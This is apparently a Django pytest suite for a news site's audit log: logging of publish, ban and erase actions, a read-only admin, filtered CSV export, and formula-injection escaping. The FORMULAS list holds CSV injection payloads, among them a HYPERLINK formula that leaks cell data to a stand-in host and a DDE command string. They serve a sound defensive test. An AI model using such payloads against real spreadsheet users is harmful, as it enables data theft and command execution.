"""One audit log for editorial and moderation actions: written by the
services, filterable and exportable as CSV in the admin, never editable."""

import csv
import io

import pytest
from django.urls import reverse

from articles import services
from articles.models import AuditEntry
from comments import services as comment_services
from comments.models import Comment
from tests.factories import ArticleFactory, CommentFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def desk(roles):
    return (
        UserFactory(username="ed", groups="Editor"),
        UserFactory(username="mo", groups="Moderator"),
    )


def test_editorial_and_moderation_actions_are_logged(client, desk):
    editor, moderator = desk
    article = ArticleFactory(draft=True, title="Chip plant")
    services.article_publish(article=article, user=editor)
    services.article_unpublish(article=article, user=editor)
    comment = CommentFactory(pending=True)
    comment_services.comments_moderate(
        comments=Comment.objects.filter(pk=comment.pk), status="approved",
        moderator=moderator,
    )  # fmt: skip
    comment_services.commenter_ban(comment=comment, moderator=moderator, reason="spam")
    comment_services.commenter_erase(email=comment.email)
    actions = list(
        AuditEntry.objects.order_by("pk").values_list("action", "actor__username")
    )
    assert actions == [
        ("publish", "ed"), ("unpublish", "ed"), ("comment approved", "mo"),
        ("ban", "mo"), ("erase", None),
    ]  # fmt: skip
    assert comment.email not in AuditEntry.objects.get(action="erase").summary


def test_the_log_is_read_filtered_and_exported_never_edited(client, desk):
    editor, moderator = desk
    article = ArticleFactory(draft=True, title="Chip plant")
    services.article_publish(article=article, user=editor)
    comment = CommentFactory(pending=True)
    comment_services.comments_moderate(
        comments=Comment.objects.filter(pk=comment.pk), status="spam",
        moderator=moderator,
    )  # fmt: skip
    client.force_login(moderator)
    listing = client.get("/admin/articles/auditentry/", {"action__exact": "publish"})
    assert listing.status_code == 200 and "Chip plant" in listing.content.decode()
    # The list offers the export of what it shows (its filters kept).
    button = f"{reverse('admin:articles_auditentry_export')}?action__exact=publish"
    assert f'href="{button}" class="export-link"' in listing.content.decode()
    filtered = list(csv.reader(io.StringIO(client.get(button).content.decode())))
    assert {r[2] for r in filtered[1:]} == {"publish"}
    export = client.get(reverse("admin:articles_auditentry_export"))
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[0] == ["at", "actor", "action", "object_type", "object_id", "summary"]
    assert {r[2] for r in rows[1:]} == {"publish", "comment spam"}
    entry = AuditEntry.objects.first()
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    assert client.get(f"/admin/articles/auditentry/{entry.pk}/change/").status_code in (
        200, 403,
    )  # fmt: skip
    assert (
        client.post(f"/admin/articles/auditentry/{entry.pk}/delete/").status_code == 403
    )
    assert client.get("/admin/articles/auditentry/add/").status_code == 403
    assert AuditEntry.objects.filter(pk=entry.pk).exists()
    client.force_login(UserFactory(username="jo", groups="Journalist"))
    assert client.get("/admin/articles/auditentry/").status_code == 403


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("headline", FORMULAS)
def test_the_csv_export_never_holds_a_formula(client, desk, headline):
    editor, _ = desk
    article = ArticleFactory(draft=True, title=headline)
    services.article_publish(article=article, user=editor)
    AuditEntry.objects.update(summary=headline)
    client.force_login(editor)
    export = client.get(reverse("admin:articles_auditentry_export"))
    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][5] == "'" + headline  # shown as text, nothing lost


def test_a_bad_filter_on_the_export_is_a_400_not_a_500(client, desk):
    editor, _ = desk
    client.force_login(editor)
    url = reverse("admin:articles_auditentry_export")
    response = client.get(url, {"at__gte": "xyz"})
    assert response.status_code == 400
    assert "filters" in response.content.decode()
